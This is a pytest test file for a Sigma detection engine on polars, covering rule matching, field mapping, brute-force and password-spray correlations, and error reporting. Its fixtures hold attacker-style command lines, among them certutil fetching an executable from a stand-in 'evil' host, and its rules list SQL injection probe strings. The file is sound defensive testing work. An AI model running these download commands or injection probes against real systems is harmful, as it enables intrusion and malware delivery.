"""Sigma on polars: each case is a detection, a small frame, and the exact rows it must match."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from sigma.rule import SigmaRule

from vigil.detect.sigma import (
    CorrelationType,
    SigmaCorrelation,
    SigmaDetection,
    class_schema,
    compile_rule,
    evaluate_correlation,
    lint_sigma,
    load_sigma,
    vigil_pipeline,
    where_expr,
)
from vigil.detect.types import RuleError, Severity

T0 = datetime(2024, 11, 29, 3, 0, tzinfo=UTC)

EVENTS = pl.DataFrame(
    {
        "cmd": [
            r"C:\Windows\System32\certutil.exe -urlcache -f http://x/a.exe",
            "powershell.exe -enc SQBFAFgA",
            "cmd.exe /c whoami",
            "notepad.exe file*.txt",
            None,
        ],
        "path": [r"C:\Windows\System32\certutil.exe", "PowerShell.EXE", "cmd.exe", "a?b", ""],
        "port": [443, 3389, 22, None, 8080],
        "ip": ["10.1.2.3", "192.168.0.7", "2001:db8::1", "fe80::1%eth0", "not-an-ip"],
        "code": ["200", "404", "500", "x", None],
        "other": ["certutil", "nothing", "CMD.EXE", None, ""],
        "remote": [True, False, None, True, False],
        "labels": [["pos", "lane-3"], [], None, ["office"], ["POS"]],
        "message": ["login failed for bob", None, "Mimikatz sekurlsa", "", "ok"],
        "time": [T0 + timedelta(minutes=i) for i in range(5)],
    }
)
SCHEMA = EVENTS.schema

MATCH_CASES: list[tuple[str, dict[str, Any], list[int]]] = [
    ("plain-case-insensitive", {"path": "powershell.exe"}, [1]),
    ("plain-whole-value", {"path": "powershell"}, []),
    ("wildcard-star", {"cmd": "*WHOAMI"}, [2]),
    ("wildcard-question", {"path": "cmd.ex?"}, [2]),
    ("escaped-star", {"cmd": r"*file\*.txt"}, [3]),
    ("escaped-question-literal", {"path": r"a\?b"}, [3]),
    ("list-is-or", {"path": ["cmd.exe", "powershell.exe"]}, [1, 2]),
    ("map-is-and", {"path": "cmd.exe", "port": 22}, [2]),
    ("contains", {"cmd|contains": "URLCACHE"}, [0]),
    ("startswith", {"cmd|startswith": "cmd.exe"}, [2]),
    ("endswith", {"path|endswith": "\\certutil.exe"}, [0]),
    ("contains-all", {"cmd|contains|all": ["certutil", "-f"]}, [0]),
    ("contains-all-negative", {"cmd|contains|all": ["certutil", "-decode"]}, []),
    ("re-case-sensitive", {"cmd|re": r"^cmd\.exe /c"}, [2]),
    ("re-not-ignorecase", {"path|re": "^powershell"}, []),
    ("re-i", {"path|re|i": "^powershell"}, [1]),
    ("re-s", {"cmd|re|s": "certutil.*exe$"}, [0]),
    ("re-m", {"cmd|re|m": "^powershell"}, [1]),
    ("cidr-v4", {"ip|cidr": "10.0.0.0/8"}, [0]),
    ("cidr-v4-list", {"ip|cidr": ["192.168.0.0/24", "172.16.0.0/12"]}, [1]),
    ("cidr-v4-host", {"ip|cidr": "10.1.2.3/32"}, [0]),
    ("cidr-v6", {"ip|cidr": "2001:db8::/32"}, [2]),
    ("cidr-v6-zone", {"ip|cidr": "fe80::/10"}, [3]),
    ("gt", {"port|gt": 443}, [1, 4]),
    ("gte", {"port|gte": 443}, [0, 1, 4]),
    ("lt", {"port|lt": 443}, [2]),
    ("lte", {"port|lte": 443}, [0, 2]),
    ("compare-string-column-as-number", {"code|gte": 404}, [1, 2]),
    ("number-vs-string-column-as-text", {"code": 404}, [1]),
    ("string-number-vs-int-column", {"port": "3389"}, [1]),
    ("number-vs-int-column", {"port": [22, 8080]}, [2, 4]),
    ("bool-column", {"remote": True}, [0, 3]),
    ("exists-true", {"port|exists": True}, [0, 1, 2, 4]),
    ("exists-false", {"port|exists": False}, [3]),
    ("exists-missing-column", {"nope|exists": True}, []),
    ("null", {"cmd": None}, [4]),
    ("null-missing-column", {"nope": None}, [0, 1, 2, 3, 4]),
    ("empty-string", {"path": ""}, [4]),
    ("missing-field-never-matches", {"nope": "x"}, []),
    ("missing-field-any-modifier", {"nope|contains": "x"}, []),
    ("windash", {"cmd|contains|windash": "/urlcache"}, [0]),
    ("windash-slash", {"cmd|contains|windash": " -c "}, [2]),
    (
        "base64",
        {"message|base64|contains": "x"},
        [],
    ),
    ("base64offset-wide", {"cmd|wide|base64offset|contains": "IEX"}, [1]),
    ("fieldref", {"other|fieldref": "path"}, [2, 4]),
    ("fieldref-contains", {"cmd|fieldref|contains": "other"}, [0, 2]),
    ("cased", {"path|cased": "PowerShell.EXE"}, [1]),
    ("cased-negative", {"path|cased": "powershell.exe"}, []),
    ("neq", {"path|neq": "cmd.exe"}, [0, 1, 3, 4]),
    ("list-column-any-element", {"labels": "pos"}, [0, 4]),
    ("list-column-wildcard", {"labels": "lane-*"}, [0]),
    ("hour", {"time|hour": 3}, [0, 1, 2, 3, 4]),
    ("minute", {"time|minute": 2}, [2]),
]


@pytest.mark.parametrize(
    ("where", "expected"), [pytest.param(w, e, id=i) for i, w, e in MATCH_CASES]
)
def test_value_semantics(where: dict[str, Any], expected: list[int]) -> None:
    rows = EVENTS.with_row_index("i").filter(where_expr(where, SCHEMA, "case.yml:1"))
    assert rows["i"].to_list() == expected


CONDITION_CASES: list[tuple[str, dict[str, Any], list[int]]] = [
    ("keyword-substring", {"kw": ["mimikatz"], "condition": "kw"}, [2]),
    ("keyword-list-or", {"kw": ["login failed", "sekurlsa"], "condition": "kw"}, [0, 2]),
    ("keyword-wildcard", {"kw": ["login*bob"], "condition": "kw"}, [0]),
    (
        "one-of",
        {
            "sel_a": {"port": 22},
            "sel_b": {"port": 443},
            "other": {"port": 8080},
            "condition": "1 of sel_*",
        },
        [0, 2],
    ),
    (
        "all-of",
        {
            "sel_a": {"path|endswith": ".exe"},
            "sel_b": {"port|lt": 1000},
            "condition": "all of sel_*",
        },
        [0, 2],
    ),
    ("all-of-them", {"a": {"port": 22}, "b": {"path": "cmd.exe"}, "condition": "all of them"}, [2]),
    ("any-of-them", {"a": {"port": 22}, "b": {"port": 443}, "condition": "1 of them"}, [0, 2]),
    ("not", {"a": {"path": "cmd.exe"}, "condition": "not a"}, [0, 1, 3, 4]),
    ("not-missing-field", {"a": {"nope": "x"}, "condition": "not a"}, [0, 1, 2, 3, 4]),
    (
        "parentheses",
        {
            "a": {"port": 22},
            "b": {"port": 443},
            "c": {"path|endswith": ".exe"},
            "condition": "(a or b) and not c",
        },
        [],
    ),
    (
        "precedence",
        {"a": {"port": 22}, "b": {"port": 443}, "c": {"path": "x"}, "condition": "a or b and c"},
        [2],
    ),
    (
        "list-of-maps-is-or",
        {"sel": [{"port": 22}, {"path": "powershell.exe"}], "condition": "sel"},
        [1, 2],
    ),
    (
        "and-not-filter",
        {
            "sel": {"port|gte": 1},
            "filter_main": {"ip|cidr": "10.0.0.0/8"},
            "condition": "sel and not 1 of filter_*",
        },
        [1, 2, 4],
    ),
]


@pytest.mark.parametrize(
    ("where", "expected"), [pytest.param(w, e, id=i) for i, w, e in CONDITION_CASES]
)
def test_conditions(where: dict[str, Any], expected: list[int]) -> None:
    rows = EVENTS.with_row_index("i").filter(where_expr(where, SCHEMA, "case.yml:1"))
    assert rows["i"].to_list() == expected


def test_base64_modifier_matches_encoded_value() -> None:
    encoded = base64.b64encode(b"whoami").decode()
    frame = pl.DataFrame({"cmd": [f"powershell -enc {encoded}", "whoami"]})
    expr = where_expr({"cmd|base64|contains": "whoami"}, frame.schema, "case.yml:1")
    assert frame.filter(expr)["cmd"].to_list() == [f"powershell -enc {encoded}"]


def test_expand_placeholder_from_pipeline() -> None:
    rule = SigmaRule.from_yaml(
        """
title: Admin logon
logsource: {category: authentication}
detection:
  sel: {TargetUserName|expand: '%admins%'}
  condition: sel
"""
    )
    vigil_pipeline({"admins": ["root", "Administrator"]}).apply(rule)
    schema = class_schema("authentication")
    frame = pl.from_dicts([{"user.name": "administrator"}, {"user.name": "bob"}], schema=schema)
    assert frame.filter(compile_rule(rule, schema))["user.name"].to_list() == ["administrator"]


def test_where_errors_carry_origin() -> None:
    with pytest.raises(RuleError, match=r"^native/x\.yml:7: where: .*Unknown modifier") as caught:
        where_expr({"port|bogus": 1}, SCHEMA, "native/x.yml:7")
    assert caught.value.line == 7
    with pytest.raises(RuleError, match=r"native/x\.yml:9: where: "):
        where_expr({"a": {"port": 1}, "condition": "a and"}, SCHEMA, "native/x.yml:9")


def frame(event_class: str, rows: list[dict[str, Any]]) -> pl.DataFrame:
    return pl.from_dicts(rows, schema=class_schema(event_class))


def matched(detection: SigmaDetection, rows: list[dict[str, Any]]) -> list[int]:
    data = frame(detection.event_class, rows).with_row_index("_i")
    return data.filter(detection.expr)["_i"].to_list()


CERTUTIL = r"""
title: Suspicious Download Via Certutil.EXE
id: 19b08b1c-861d-4e75-a1ef-ea0c1baf202b
status: test
description: Detects certutil with the urlcache, verifyctl or URL flags used to download files.
author: Vigil
date: 2024-11-29
tags:
  - attack.defense-evasion
  - attack.t1027
  - attack.command-and-control
  - attack.t1105
logsource:
  category: process_creation
  product: windows
detection:
  selection_img:
    - Image|endswith: '\certutil.exe'
    - OriginalFileName: 'CertUtil.exe'
  selection_flags:
    CommandLine|contains|windash:
      - '-urlcache '
      - '-verifyctl '
      - '-URL '
  selection_http:
    CommandLine|contains:
      - 'http://'
      - 'https://'
  condition: all of selection_*
falsepositives:
  - Unknown
level: high
"""


def test_community_certutil_rule() -> None:
    [detection] = load_sigma(CERTUTIL, "rules/certutil.yml")
    assert isinstance(detection, SigmaDetection)
    assert detection.event_class == "process_activity"
    assert detection.meta.uid == "19b08b1c-861d-4e75-a1ef-ea0c1baf202b"
    assert detection.meta.severity == Severity.HIGH
    assert detection.meta.attack == ("T1027", "T1105")
    assert "attack.defense-evasion" in detection.meta.tags
    assert detection.falsepositives == ("Unknown",)
    assert detection.line == 2
    assert detection.warnings == ()
    rows = [
        {
            "process.path": r"C:\Windows\System32\certutil.exe",
            "process.cmd_line": "certutil.exe -urlcache -split -f http://evil/x.exe x.exe",
        },
        {
            "process.path": r"C:\Windows\System32\CERTUTIL.EXE",
            "process.cmd_line": "CertUtil /URLCache /f HTTPS://evil/x",
        },
        {
            "process.path": r"C:\Windows\System32\certutil.exe",
            "process.cmd_line": "certutil -decode a.b64 a.exe",
        },
        {
            "process.path": r"C:\tmp\renamed.exe",
            "process.file.name": "certutil.exe",
            "process.cmd_line": "renamed -verifyctl -f https://x",
        },
        {
            "process.path": r"C:\Windows\System32\curl.exe",
            "process.cmd_line": "curl -urlcache http://x",
        },
    ]
    assert matched(detection, rows) == [0, 1, 3]


SQLI = r"""
title: SQL Injection Strings In URI
id: 5513deaf-f49a-46c2-a6c8-3f111b5cb453
status: test
description: Detects SQL injection probes in the query string of web requests.
tags:
  - attack.initial-access
  - attack.t1190
logsource:
  category: webserver
detection:
  selection:
    cs-method: 'GET'
  keywords:
    cs-uri-query|contains:
      - '@@version'
      - '%271%27%3D%271'
      - '=select '
      - '=select('
      - 'UNION ALL SELECT'
      - 'UNION SELECT'
      - 'sleep('
  filter_main_status:
    sc-status: 404
  condition: selection and keywords and not 1 of filter_main_*
falsepositives:
  - Vulnerability scanners run by the security team
level: high
"""


def test_community_sqli_webserver_rule() -> None:
    [detection] = load_sigma(SQLI, "rules/sqli.yml")
    assert isinstance(detection, SigmaDetection)
    assert detection.event_class == "http_activity"
    rows: list[dict[str, Any]] = [
        {
            "http_request.http_method": "GET",
            "http_request.url.query_string": "id=1 union select null,null--",
            "http_response.code": 200,
        },
        {
            "http_request.http_method": "GET",
            "http_request.url.query_string": "id=1 UNION SELECT 1",
            "http_response.code": 404,
        },
        {
            "http_request.http_method": "POST",
            "http_request.url.query_string": "q=SLEEP(5)",
            "http_response.code": 200,
        },
        {
            "http_request.http_method": "get",
            "http_request.url.query_string": "q=sleep(5)",
            "http_response.code": 500,
        },
        {
            "http_request.http_method": "GET",
            "http_request.url.query_string": "q=shoes",
            "http_response.code": 200,
        },
        {
            "http_request.http_method": "GET",
            "http_request.url.query_string": None,
            "http_response.code": 200,
        },
    ]
    assert matched(detection, rows) == [0, 3]


MAPPING_CASES: list[tuple[str, str, str, list[dict[str, Any]], list[int]]] = [
    (
        "process_creation",
        "category: process_creation\n  product: windows",
        "sel: {ParentImage|endswith: '\\winword.exe', Image|endswith: '\\cmd.exe', User|contains: 'bob', CurrentDirectory|startswith: 'C:\\Users'}",
        [
            {
                "process.parent_process.path": r"C:\Office\WINWORD.EXE",
                "process.path": r"C:\Windows\cmd.exe",
                "process.user.name": "bob",
                "process.working_directory": "C:\\Users\\bob",
            },
            {
                "process.parent_process.path": r"C:\explorer.exe",
                "process.path": r"C:\Windows\cmd.exe",
                "process.user.name": "bob",
                "process.working_directory": "C:\\Users\\bob",
            },
        ],
        [0],
    ),
    (
        "process_creation_parent_cmdline",
        "category: process_creation",
        "sel: {ParentCommandLine|contains: '-nop', CommandLine|re: 'whoami$'}",
        [
            {
                "process.parent_process.cmd_line": "powershell -NoP -nop",
                "process.cmd_line": "cmd /c whoami",
            },
            {"process.cmd_line": "cmd /c whoami"},
        ],
        [0],
    ),
    (
        "network_connection",
        "category: network_connection\n  product: windows",
        "sel: {Initiated: 'true', DestinationPort: [3389, 5900], DestinationIp|cidr: '10.0.0.0/8'}",
        [
            {
                "connection_info.direction": "Outbound",
                "dst_endpoint.port": 3389,
                "dst_endpoint.ip": "10.9.9.9",
            },
            {
                "connection_info.direction": "Inbound",
                "dst_endpoint.port": 3389,
                "dst_endpoint.ip": "10.9.9.9",
            },
            {
                "connection_info.direction": "Outbound",
                "dst_endpoint.port": 443,
                "dst_endpoint.ip": "10.9.9.9",
            },
        ],
        [0],
    ),
    (
        "firewall",
        "category: firewall",
        "sel: {src_ip|cidr: '192.168.0.0/16', dst_port: 445}",
        [
            {"src_endpoint.ip": "192.168.1.5", "dst_endpoint.port": 445},
            {"src_endpoint.ip": "8.8.8.8", "dst_endpoint.port": 445},
        ],
        [0],
    ),
    (
        "webserver",
        "category: webserver",
        "sel: {cs-uri-stem|endswith: '/wp-login.php', c-ip|cidr: '203.0.113.0/24', cs-user-agent|contains: 'python', cs-host: 'shop.example.com'}",
        [
            {
                "http_request.url.path": "/blog/wp-login.php",
                "src_endpoint.ip": "203.0.113.9",
                "http_request.user_agent": "python-requests/2.31",
                "dst_endpoint.hostname": "shop.example.com",
            },
            {
                "http_request.url.path": "/blog/wp-login.php",
                "src_endpoint.ip": "203.0.113.9",
                "http_request.user_agent": "python-requests/2.31",
                "http_request.url.hostname": "SHOP.example.com",
            },
            {
                "http_request.url.path": "/blog/wp-login.php",
                "src_endpoint.ip": "198.51.100.1",
                "http_request.user_agent": "python",
                "dst_endpoint.hostname": "shop.example.com",
            },
        ],
        [0, 1],
    ),
    (
        "dns_query",
        "category: dns_query\n  product: windows",
        "sel: {QueryName|endswith: '.onion.to'}",
        [{"query.hostname": "abc.ONION.to"}, {"query.hostname": "onion.to.example"}],
        [0],
    ),
    (
        "dns_answer_in_list",
        "category: dns",
        "sel: {query|contains: 'pastebin', answer|cidr: '104.20.0.0/16'}",
        [
            {
                "query.hostname": "pastebin.com",
                "answers": [{"rdata": "1.1.1.1"}, {"rdata": "104.20.1.2"}],
            },
            {"query.hostname": "pastebin.com", "answers": [{"rdata": "1.1.1.1"}]},
            {"query.hostname": "pastebin.com"},
        ],
        [0],
    ),
    (
        "windows_security_4625",
        "product: windows\n  service: security",
        "sel: {EventID: 4625, LogonType: 10, IpAddress|cidr: '0.0.0.0/0'}",
        [
            {
                "status_id": 2,
                "activity_id": 1,
                "logon_type_id": 10,
                "src_endpoint.ip": "198.51.100.4",
            },
            {
                "status_id": 1,
                "activity_id": 1,
                "logon_type_id": 10,
                "src_endpoint.ip": "198.51.100.4",
            },
            {
                "status_id": 2,
                "activity_id": 1,
                "logon_type_id": 3,
                "src_endpoint.ip": "198.51.100.4",
            },
        ],
        [0],
    ),
    (
        "file_event",
        "category: file_event\n  product: windows",
        "sel: {TargetFilename|endswith: '.ps1', Image|endswith: '\\winword.exe'}",
        [
            {"file.path": r"C:\Temp\a.PS1", "actor.process.path": r"C:\Office\winword.exe"},
            {"file.path": r"C:\Temp\a.txt"},
        ],
        [0],
    ),
]


@pytest.mark.parametrize(
    ("logsource", "detection", "rows", "expected"),
    [
        pytest.param(ls, d, r, e, id=i)
        for i, _c, ls, d, r, e in [(c[0], None, *c[1:]) for c in MAPPING_CASES]
    ],
)
def test_pipeline_mapping(
    logsource: str, detection: str, rows: list[dict[str, Any]], expected: list[int]
) -> None:
    text = f"title: t\nlogsource:\n  {logsource}\ndetection:\n  {detection}\n  condition: sel\n"
    [loaded] = load_sigma(text, "rules/map.yml")
    assert isinstance(loaded, SigmaDetection)
    assert loaded.warnings == ()
    assert matched(loaded, rows) == expected


def test_unmapped_field_is_a_warning_and_never_matches() -> None:
    text = "title: t\nlogsource: {category: process_creation}\ndetection:\n  sel: {Company: 'Evil Corp'}\n  condition: not sel\n"
    [loaded] = load_sigma(text, "rules/w.yml")
    assert isinstance(loaded, SigmaDetection)
    assert loaded.warnings == (
        "field 'Company' is no column of process_activity and never matches",
    )
    assert matched(loaded, [{"process.pid": 1}]) == [0]


BASE = """
title: Failed logon
name: failed_logon
logsource: {category: authentication}
detection:
  sel: {status_id: 2}
  condition: sel
---
title: Successful logon
name: ok_logon
logsource: {category: authentication}
detection:
  sel: {status_id: 1}
  condition: sel
---
"""


def correlation(body: str) -> SigmaCorrelation:
    items = load_sigma(BASE + body, "rules/corr.yml")
    found = [item for item in items if isinstance(item, SigmaCorrelation)]
    assert len(found) == 1
    return found[0]


def logons(*events: tuple[int, str, int, str]) -> dict[str, pl.DataFrame]:
    """(seconds after T0, user, status_id, source ip) per event."""
    rows = [
        {"time": T0 + timedelta(seconds=s), "user.name": u, "status_id": st, "src_endpoint.ip": ip}
        for s, u, st, ip in events
    ]
    return {"authentication": frame("authentication", rows)}


EVENT_COUNT = """title: Brute force
correlation:
  type: event_count
  rules: failed_logon
  group-by: [TargetUserName]
  timespan: 1m
  condition: {gte: 3}
level: high
"""


def test_event_count_positive() -> None:
    corr = correlation(EVENT_COUNT)
    assert corr.type == CorrelationType.EVENT_COUNT
    assert corr.timespan == 60
    assert corr.group_columns == (("user.name",),)
    frames = logons(
        (0, "bob", 2, "a"), (30, "bob", 2, "a"), (60, "bob", 2, "a"), (5, "amy", 2, "a")
    )
    result = evaluate_correlation(corr, frames)
    assert result.to_dicts() == [
        {
            "TargetUserName": "bob",
            "first_time": T0,
            "last_time": T0 + timedelta(seconds=60),
            "count": 3,
        }
    ]
    assert corr.meta.severity == Severity.HIGH


def test_event_count_negative() -> None:
    corr = correlation(EVENT_COUNT)
    frames = logons(
        (0, "bob", 2, "a"), (30, "bob", 2, "a"), (61, "bob", 2, "a"), (40, "bob", 1, "a")
    )
    assert evaluate_correlation(corr, frames).is_empty()


VALUE_COUNT = """title: Password spray
correlation:
  type: value_count
  rules: failed_logon
  group-by: [IpAddress]
  timespan: 5m
  condition: {field: TargetUserName, gt: 2}
"""


def test_value_count_positive_and_negative() -> None:
    corr = correlation(VALUE_COUNT)
    assert corr.value_columns == ("user.name",)
    spray = logons(
        (0, "a", 2, "1.1.1.1"),
        (10, "b", 2, "1.1.1.1"),
        (20, "c", 2, "1.1.1.1"),
        (30, "a", 2, "2.2.2.2"),
    )
    result = evaluate_correlation(corr, spray)
    assert result.select("IpAddress", "count").to_dicts() == [{"IpAddress": "1.1.1.1", "count": 3}]
    repeat = logons(
        (0, "a", 2, "1.1.1.1"),
        (10, "a", 2, "1.1.1.1"),
        (20, "b", 2, "1.1.1.1"),
        (400, "c", 2, "1.1.1.1"),
    )
    assert evaluate_correlation(corr, repeat).is_empty()


TEMPORAL = """title: Failure then success
correlation:
  type: {kind}
  rules: [{first}, {second}]
  group-by: [user]
  aliases:
    user:
      failed_logon: TargetUserName
      ok_logon: TargetUserName
  timespan: 2m
"""


@pytest.mark.parametrize(
    ("kind", "first", "second", "expected"),
    [
        pytest.param("temporal", "failed_logon", "ok_logon", ["bob", "amy"], id="temporal"),
        pytest.param("temporal_ordered", "failed_logon", "ok_logon", ["bob"], id="ordered"),
        pytest.param(
            "temporal_ordered", "ok_logon", "failed_logon", ["amy"], id="ordered-reversed"
        ),
    ],
)
def test_temporal(kind: str, first: str, second: str, expected: list[str]) -> None:
    corr = correlation(TEMPORAL.format(kind=kind, first=first, second=second))
    assert corr.group_columns == (("user.name",), ("user.name",))
    frames = logons(
        (0, "bob", 2, "x"),
        (30, "bob", 1, "x"),  # bob: failure then success
        (0, "amy", 1, "x"),
        (20, "amy", 2, "x"),  # amy: success then failure
        (0, "joe", 2, "x"),
        (500, "joe", 1, "x"),  # joe: too far apart
        (0, "ann", 2, "x"),  # ann: only one rule
    )
    result = evaluate_correlation(corr, frames)
    assert sorted(result["user"].unique().to_list()) == sorted(expected)
    assert (result["count"] == 2).all()


def test_correlation_silences_referenced_rules() -> None:
    items = load_sigma(BASE + EVENT_COUNT, "rules/corr.yml")
    detections = {item.uid: item for item in items if isinstance(item, SigmaDetection)}
    assert not detections["sigma.failed_logon"].alerting
    assert detections["sigma.ok_logon"].alerting


ERROR_CASES: list[tuple[str, str, str]] = [
    (
        "bad-yaml",
        "title: x\ndetection:\n  sel: [a, b\n  condition: sel\n",
        r"^rules/bad\.yml:\d+: invalid YAML",
    ),
    (
        "unknown-modifier",
        "title: x\nlogsource: {category: webserver}\ndetection:\n  sel: {cs-uri|bogus: a}\n  condition: sel\n",
        r"^rules/bad\.yml:1: Unknown modifier",
    ),
    (
        "bad-condition",
        "title: x\nlogsource: {category: webserver}\ndetection:\n  sel: {cs-uri: a}\n  condition: sel and\n",
        r"^rules/bad\.yml:1: ",
    ),
    (
        "undefined-selection",
        "title: x\nlogsource: {category: webserver}\ndetection:\n  sel: {cs-uri: a}\n  condition: other\n",
        r"^rules/bad\.yml:1: Detection 'other' not defined",
    ),
    (
        "unknown-logsource",
        "title: x\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel: {a: b}\n  condition: sel\n",
        r"^rules/bad\.yml:1: log source aws/cloudtrail has no Vigil event class",
    ),
    (
        "unsupported-regex",
        "title: x\nlogsource: {category: webserver}\ndetection:\n  sel: {cs-uri|re: '(?<=a)b'}\n  condition: sel\n",
        r"^rules/bad\.yml:1: (?i:regular expression) .* is (invalid|not supported)",
    ),
    (
        "second-document-line",
        "title: ok\nlogsource: {category: webserver}\ndetection:\n  sel: {cs-uri: a}\n  condition: sel\n---\ntitle: bad\nlogsource: {category: webserver}\ndetection:\n  sel: {cs-uri|nope: a}\n  condition: sel\n",
        r"^rules/bad\.yml:7: Unknown modifier",
    ),
    (
        "missing-correlated-rule",
        "title: c\ncorrelation: {type: event_count, rules: [ghost], timespan: 1m, condition: {gte: 2}}\n",
        r"^rules/bad\.yml:1: .*ghost",
    ),
]


@pytest.mark.parametrize(("text", "pattern"), [pytest.param(t, p, id=i) for i, t, p in ERROR_CASES])
def test_load_errors_carry_file_and_line(text: str, pattern: str) -> None:
    with pytest.raises(RuleError, match=pattern):
        load_sigma(text, "rules/bad.yml")


def test_lint_reports_every_broken_rule(tmp_path: Path) -> None:
    for case_id, text, _ in ERROR_CASES:
        (tmp_path / f"{case_id}.yml").write_text(text)
    (tmp_path / "good.yml").write_text(CERTUTIL)
    nested = tmp_path / "web"
    nested.mkdir()
    (nested / "sqli.yaml").write_text(SQLI)
    errors = lint_sigma([tmp_path])
    files = sorted({Path(error.file).stem for error in errors})
    assert files == sorted(case_id for case_id, _, _ in ERROR_CASES)
    assert all(error.line is not None for error in errors)
    warned = lint_sigma([tmp_path / "good.yml"], warnings=True)
    assert warned == []


WINDOWS_SPRAY = """title: Failed logon (Windows)
name: win_failed_logon
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4625}
  condition: sel
---
title: Password spray from one address
correlation:
  type: value_count
  rules: win_failed_logon
  group-by: [IpAddress]
  timespan: 5m
  condition: {field: TargetUserName, gte: 3}
"""


def test_correlation_on_windows_security_maps_group_by() -> None:
    """The pipeline turns `EventID: 4625` into `status_id: 2`; group-by must still be mapped."""
    items = load_sigma(WINDOWS_SPRAY, "rules/spray.yml")
    [corr] = [item for item in items if isinstance(item, SigmaCorrelation)]
    assert corr.rules[0].event_class == "authentication"
    assert corr.group_columns == (("src_endpoint.ip",),)
    assert corr.value_columns == ("user.name",)
    frames = logons(
        (0, "a", 2, "10.0.0.9"),
        (10, "b", 2, "10.0.0.9"),
        (20, "c", 1, "10.0.0.9"),  # a success: not EventID 4625
        (30, "d", 2, "10.0.0.9"),
        (40, "e", 2, "10.0.0.7"),
    )
    frames = {"authentication": frames["authentication"].with_columns(activity_id=pl.lit(1))}
    result = evaluate_correlation(corr, frames)
    assert result.select("IpAddress", "count").to_dicts() == [{"IpAddress": "10.0.0.9", "count": 3}]
